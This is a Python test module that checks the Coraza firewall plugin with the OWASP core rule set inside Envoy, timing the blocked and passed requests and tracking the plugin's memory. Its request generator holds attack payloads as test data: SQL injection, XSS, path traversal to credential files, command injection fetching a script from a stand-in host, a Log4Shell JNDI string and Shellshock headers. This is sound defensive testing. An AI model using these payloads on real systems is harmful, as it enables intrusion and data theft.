"""Coraza's plugin with the core rule set in a real Envoy: attacks are answered 403 and do not come whole to the server
behind it, other requests do, and the plugin's memory stays as it is.

The module is that of test_coraza_proxy_wasm.py. One Envoy has two firewalls, by the name of the host: the core rule set
for all requests of SHOP, and the rules of the plugin's own end-to-end test, with the requests that go with them. The
server behind Envoy is in this file: with a direct response of Envoy the plugin would not see all phases.

This takes minutes, and runs only with GLEBE_TEST_MODULES=1 (`make test-long`). GLEBE_CORAZA_REQUESTS is how many
requests are sent, at least 2000. GLEBE_CORAZA_COLLECTORS=glebe,precise,precise+malloc sends each request
to an Envoy with each of these modules in turn (without_malloc says how the last two differ); -s prints the figures.
Time is processor time of Envoy, so other programs matter less. The pages are those after the first request, the
hundredth, each thousand, and the last.
"""

import contextlib
import http.client
import json
import os
import pathlib
import urllib.parse

import pytest

from test_coraza_proxy_wasm import COLLECTORS, built, plugin
from test_hosts import Echo, envoy
from test_tinygo import GO, TINYGO

REQUESTS = int(os.environ.get("GLEBE_CORAZA_REQUESTS", 4000))
CHOSEN = os.environ.get("GLEBE_CORAZA_COLLECTORS", "glebe").split(",")

pytestmark = pytest.mark.skipif(not os.environ.get("GLEBE_TEST_MODULES"),
                                reason="takes long; GLEBE_TEST_MODULES=1 runs it")

SHOP, E2E = "shop.example.com", "e2e.example.com"
E2E_RULES = """
SecRuleEngine On
SecRequestBodyAccess On
SecResponseBodyAccess On
SecResponseBodyMimeType application/json
SecRule &REQUEST_HEADERS:coraza-e2e "@eq 0" "id:100,phase:1,deny,status:424"
SecRule REQUEST_URI "@streq /admin" "id:101,phase:1,t:lowercase,deny,status:403"
SecRule REQUEST_BODY "@rx maliciouspayload" "id:102,phase:2,t:lowercase,deny,status:403"
SecRule RESPONSE_HEADERS:pass "@rx leak" "id:103,phase:3,t:lowercase,deny,status:403"
SecRule RESPONSE_BODY "@contains responsebodycode" "id:104,phase:4,t:lowercase,deny,status:403"
SecRule ARGS_NAMES|ARGS "@detectXSS" "id:9411,phase:2,t:none,t:urlDecodeUni,t:htmlEntityDecode,deny,status:403"
SecRule ARGS_NAMES|ARGS "@detectSQLi" "id:9421,phase:2,t:none,t:urlDecodeUni,multiMatch,deny,status:403"
SecRule REQUEST_HEADERS:User-Agent "@pm grabber masscan" "id:9131,phase:1,t:none,deny,status:403"
"""


def configuration(engine):
    """For SecRuleEngine: On answers attacks with 403, DetectionOnly lets them pass."""
    core = ["Include @recommended-conf", f"SecRuleEngine {engine}", "Include @crs-setup-conf",
            "Include @owasp_crs/*.conf"]
    return json.dumps({"directives_map": {"core": core, "e2e": E2E_RULES.strip().splitlines()},
                       "default_directives": "core", "per_authority_directives": {E2E: "e2e"}})


BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
FORM, JSON = "application/x-www-form-urlencoded", "application/json"
# What the answer is: the server's, or with this status and without a body, or the server's with zeros as its body.
PASSED, DENIED, NOT_E2E, ERASED = 200, 403, 424, "zeros"
LONG = " ".join(f"word{n}" for n in range(5000))


def form(**fields):
    return urllib.parse.urlencode(fields)


def query(path, **fields):
    return f"{path}?{form(**fields)}"


def shop(i):
    """(kind, method, path, headers, body, answer) of requests to the core rule set, a little different for each i."""
    def post(body, kind=FORM):
        return "POST", f"/orders/{i}", {"content-type": kind}, body

    def get(path, **headers):
        return "GET", path, headers, ""
    passed = [
        get("/"), get(f"/products/{i}"), get(query("/products", id=i, page=i % 7)), get("/static/app.js"),
        get(query("/search", q=f"red shoes size {i % 50}"), referer="https://shop.example.com/"),
        get("/cart", cookie=f"session={i:032x}; theme=dark"),
        post(form(user=f"alice{i}", password=f"correct horse {i}")),
        post(json.dumps({"item": i, "count": 2, "notes": ["by mail", "as a gift"]}), JSON),
        post(form(comment=f"I like it, number {i} of the series.", stars=i % 5)),
        post(form(text=f"{LONG} {i}")),
    ]
    denied = {
        "SQL injection": [
            get(query("/products", id=f"{i}' OR '1'='1")),
            get(query("/products", id=f"{i} UNION SELECT name, password FROM users--")),
            post(form(user=f"admin{i}' OR 1=1-- ", password="x")),
            post(json.dumps({"item": f"{i}; DROP TABLE users"}), JSON),
            post(form(text=f"{LONG} {i}", id=f"{i}' UNION ALL SELECT NULL, version()--")),
        ],
        "cross-site scripting": [
            get(query("/search", q=f"<script>alert({i})</script>")),
            get(query("/search", q=f"<img src=x{i} onerror=alert(1)>")),
            post(form(comment=f"nice <svg/onload=alert({i})>")),
            post(json.dumps({"notes": [f"<script>document.cookie={i}</script>"]}), JSON),
        ],
        "path traversal": [
            get(query("/download", file=f"../../../../etc/passwd?{i}")),
            get(f"/static/..%2f..%2f..%2f..%2fetc%2fpasswd?{i}"),
            post(form(file=f"..\\..\\..\\windows\\win.ini {i}", to="/etc/shadow")),
        ],
        "scanner": [get(f"/{i}", **{"user-agent": agent})
                    for agent in ("sqlmap/1.8 (https://sqlmap.org)", "Nikto/2.5", "masscan/1.3", "Nessus SOAP")],
        "command injection": [
            get(query("/ping", host=f"127.0.0.{i % 250}; cat /etc/passwd")),
            post(form(host=f"$(wget http://203.0.113.{i % 250}/x.sh)")),
            get("/", **{"user-agent": f"() {{ :;}}; echo {i}"}),
            get(query("/", x=f"${{jndi:ldap://203.0.113.{i % 250}/a}}")),
        ],
        "PHP injection": [post(form(code=f"<?php system('id {i}'); ?>"))],
    }
    erased = [get(f"/broken/{i}")]
    browser = {"host": SHOP, "user-agent": BROWSER, "accept": "*/*"}
    for kind, requests, answer in (("passed", passed, PASSED), *((kind, r, DENIED) for kind, r in denied.items()),
                                   ("leak", erased, ERASED)):
        for method, path, headers, body in requests:
            yield kind, method, path, {**browser, **headers}, body, answer


def end_to_end(i):
    """The requests of the plugin's own end-to-end test."""
    typed = {"content-type": FORM}
    for method, path, headers, body, answer in (
            ("GET", f"/?arg=arg_{i}", {}, "", PASSED),
            ("GET", "/admin", {}, "", DENIED),
            ("POST", "/anything", typed, "This is a legit payload", PASSED),
            ("POST", "/anything", typed, "maliciouspayload", DENIED),
            ("GET", "/response-headers?pass=leak", {}, "", DENIED),
            ("POST", "/anything", typed, "responsebodycode", ERASED),
            ("GET", "/anything?arg=%3Cscript%3Ealert(0)%3C/script%3E", {}, "", DENIED),
            ("POST", "/anything", typed, "1%27%20ORDER%20BY%203--%2B", DENIED),
            ("GET", "/anything", {"user-agent": "Grabber/0.1 (X11; U; Linux i686; en-US; rv:1.7)"}, "", DENIED)):
        yield "end to end", method, path, {"host": E2E, "coraza-e2e": "ok", **headers}, body, answer
    yield "end to end", "GET", f"/{i}", {"host": E2E}, "", NOT_E2E


class Server(Echo):
    """Behind the firewall: sends back bodies, has a page for all else, and notes the numbers of whole requests."""

    seen = set()

    def handle(self):
        with contextlib.suppress(ConnectionResetError):  # of Envoy, when the plugin has stopped a request
            super().handle()

    def answer(self, body):
        self.seen.add(self.headers["x-number"])
        self.send_response(200)
        if "pass=leak" in self.path:
            self.send_header("pass", "leak")
        self.send_header("content-type", JSON if self.headers["host"] == E2E else "text/plain")
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self):
        if self.path.startswith("/broken/"):
            self.answer(b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server")
        else:
            self.answer(f"It works, at {urllib.parse.urlsplit(self.path).path}. ".encode() * 40)

    def do_POST(self):
        body = self.rfile.read(int(self.headers["content-length"]))
        if len(body) == int(self.headers["content-length"]):
            self.answer(body)
        else:
            self.close_connection = True  # the plugin lets the headers through, and then stops at the body


def processor(pid):
    """Milliseconds of processor time of all threads."""
    total = 0
    for task in pathlib.Path(f"/proc/{pid}/task").iterdir():
        with contextlib.suppress(FileNotFoundError):
            total += int((task / "schedstat").read_text().split()[0])
    return total / 1e6


class Client:
    """Sends requests to an Envoy, checks each answer, and keeps figures."""

    def __init__(self, name, running, server):
        self.name, self.running, self.server = name, running, server
        self.connection = http.client.HTTPConnection(running.address, timeout=600)
        self.times, self.pages = [], []

    def ask(self, number, method, path, headers, body):
        """The status and body of the answer; a body of zeros is ERASED."""
        before = processor(self.running.pid)
        headers = {**headers, "x-number": str(number)}
        if method == "POST":
            headers["content-length"] = str(len(body))
        self.connection.request(method, path, body=body.encode() or None, headers=headers)
        answer = self.connection.getresponse()
        content = answer.read()
        self.times.append(processor(self.running.pid) - before)
        return ERASED if content and not content.strip(b"\0") else answer.status

    def judged(self, number, request):
        kind, method, path, headers, body, expected = request
        answer = self.ask(number, method, path, headers, body)
        assert answer == expected, f"{self.name}, request {number}, {kind}: {answer}, not {expected}\n{request}"[:2000]
        assert (str(number) in self.server.seen) == (expected in (PASSED, ERASED) or "pass=leak" in path), request

    def count(self):
        self.pages.append(self.running.gauge("memory_pages"))

    def figures(self):
        seconds = sum(self.times) / 1000
        return {"collector": self.name, "requests": len(self.times), "seconds": round(seconds, 2),
                "requests a second": round(len(self.times) / seconds, 1), "longest ms": round(max(self.times), 1),
                "pages": self.pages}


def requests(count):
    """(number, request) of `count` requests."""
    number = 0
    for i in range(count):
        for request in (*shop(i), *end_to_end(i)):
            if number == count:
                return
            yield number, request
            number += 1


def without_malloc(module):
    """The module with its export malloc renamed. With TinyGo's precise collector it exports malloc, and each block that
    Envoy takes from it stays for ever; without it Envoy asks the SDK for a slice, as with glebe's tag."""
    content = module.read_bytes()
    assert content.count(b"\x06malloc\x00") == 1
    hidden = module.with_name(f"{module.stem}-hidden.wasm")
    hidden.write_bytes(content.replace(b"\x06malloc\x00", b"\x06mall0c\x00"))
    return hidden


@contextlib.contextmanager
def client(name, folder, engine="On"):
    if not (TINYGO and GO):
        pytest.skip("no TinyGo that is recent enough: tools/setup tinygo")
    module = built(plugin(), name.removesuffix("+malloc"))
    if name == "precise":
        module = without_malloc(module)
    folder = folder / name
    folder.mkdir()
    server = type("Server", (Server,), {"seen": set()})
    with envoy(module, json.dumps(configuration(engine))[1:-1], folder, server) as running:
        yield Client(name, running, server)


def test_verdicts_and_memory(tmp_path):
    assert REQUESTS >= 2000 and set(CHOSEN) <= {*COLLECTORS, "precise+malloc"}
    with contextlib.ExitStack() as stack:
        clients = [stack.enter_context(client(name, tmp_path)) for name in CHOSEN]
        kinds = {}
        for number, request in requests(REQUESTS):
            kinds[request[0]] = kinds.get(request[0], 0) + 1
            turn = number % len(clients)
            for each in (*clients[turn:], *clients[:turn]):
                each.judged(number, request)
                if number in (0, 99, *range(999, REQUESTS, 1000), REQUESTS - 1):
                    each.count()
        print(f"\n{kinds}")
        for each in clients:
            print(json.dumps(each.figures()))
            if each.name == "glebe":
                assert each.running.gauge("collections") > REQUESTS / 100
                first, last = each.pages[2], each.pages[-1]
                assert 0 < first <= last <= first * 1.05, each.pages


def test_without_blocking_attacks_come_through(tmp_path):
    """Control: with the same rules, which only detect, the server sees each attack, so the answers above are theirs."""
    with client("glebe", tmp_path, "DetectionOnly") as each:
        attacks = [request for _, request in requests(60) if request[3]["host"] == SHOP and request[5] != PASSED]
        assert len(attacks) > 15
        for number, (_, method, path, headers, body, _) in enumerate(attacks):
            assert each.ask(number, method, path, headers, body) == PASSED
        assert len(each.server.seen) == len(attacks)
